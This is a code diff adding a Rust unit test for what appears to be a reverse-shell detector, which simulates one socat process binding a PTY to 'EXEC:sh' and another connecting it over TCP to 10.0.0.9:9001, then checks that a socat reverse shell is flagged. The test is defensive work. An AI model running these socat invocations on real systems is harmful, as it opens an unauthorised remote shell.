@@ -222,3 +222,15 @@ fn parity_is_the_literal_rule() {
     let found = world.exec(10, 11, sh(), "/bin/dash", &["sh", "-c", "date"], &[unix(0, 61, 60)]);
     assert_eq!(found.unwrap().metadata.module, MODULE);
 }
+
+#[test]
+fn a_terminal_that_one_socat_keeps_and_another_connects() {
+    let mut world = World::new();
+    world.exec(INIT, 10, socat(), "/usr/bin/socat", &["socat", "PTY,link=/tmp/p", "EXEC:sh"], &[]);
+    world.opens(10, &[master(5, 3), unix(6, 60, 61)]);
+    world.exec(10, 12, socat(), "/usr/bin/socat", &["socat", "TCP:10.0.0.9:9001", "/tmp/p"], &[]);
+    world.opens(12, &[slave(5, 3), tcp(6, 50, Connected)]);
+    let shell = [unix(0, 61, 60), unix(1, 61, 60)];
+    let found = world.exec(10, 11, sh(), "/bin/sh", &["sh"], &shell).unwrap();
+    assert_eq!(found.metadata.module, "SOCAT_REVERSE_SHELL_DETECTED");
+}
